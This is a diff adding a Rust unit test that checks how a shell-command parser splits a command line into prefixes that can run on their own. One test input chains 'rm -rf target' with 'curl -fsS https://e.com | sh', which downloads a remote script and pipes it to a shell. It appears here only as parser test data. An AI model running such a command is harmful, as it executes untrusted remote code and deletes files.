@@ -70,3 +70,27 @@ fn the_files_a_line_runs_are_found_behind_options_and_wrappers() {
     }
     assert_eq!(run_files(&(0..100).map(|n| format!("./{n}")).collect::<Vec<_>>().join(";")).len(), 16);
 }
+
+#[test]
+fn the_beginnings_of_a_list_are_what_can_run_without_the_rest() {
+    let firsts = |line| first_commands(line).into_iter().map(|(text, count)| format!("{count} {text}")).collect::<Vec<_>>();
+    assert_eq!(
+        firsts("cargo test 2>&1 | tail -20 && rm -rf target && curl -fsS https://e.com | sh"),
+        ["2 cargo test 2>&1 | tail -20", "3 cargo test 2>&1 | tail -20 && rm -rf target"]
+    );
+    assert_eq!(firsts("a; b && c; d"), ["1 a", "2 a; b", "3 a; b && c"]);
+    for line in [
+        "a || b",
+        "a && b || c",
+        "a",
+        "a & b",
+        "for x in 1 2; do a; done",
+        "a && (b; c)",
+        "if a; then b; fi",
+        "cat <<E && b\nx\nE",
+        "a && b 'c",
+    ] {
+        let none = firsts(line);
+        assert!(none.iter().all(|first| first == "1 a" && line == "a && (b; c)"), "{line}: {none:?}");
+    }
+}
